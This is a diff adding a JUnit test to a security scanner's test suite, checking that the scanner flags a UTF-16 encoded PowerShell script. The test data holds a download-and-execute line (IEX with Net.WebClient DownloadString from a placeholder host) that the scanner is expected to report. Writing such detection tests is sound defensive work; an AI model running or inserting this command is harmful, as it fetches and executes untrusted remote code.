@@ -199,6 +199,19 @@ class BuiltinScannerTest {
     }
 
     @Test
+    void shouldReportWhenAPowerShellScriptIsSavedAsUtf16WithAByteOrderMark() throws Exception {
+      // Given: how Windows PowerShell saves scripts by default; every other byte is NUL
+      byte[] utf16 = ("\uFEFFWrite-Host 'setting up'\r\n"
+          + "IEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a.ps1')\r\n")
+          .getBytes(StandardCharsets.UTF_16LE);
+      List<Finding> findings = scanTarGz(file("demo/tools/setup.ps1", utf16));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::location)
+          .containsExactly(tuple("AIRLOCK-DOWNLOAD-EXEC", "demo/tools/setup.ps1:2"));
+    }
+
+    @Test
     void shouldNotReportWhenCurlOnlyDownloadsAFile() throws Exception {
       // Given
       List<Finding> findings = scanTarGz(
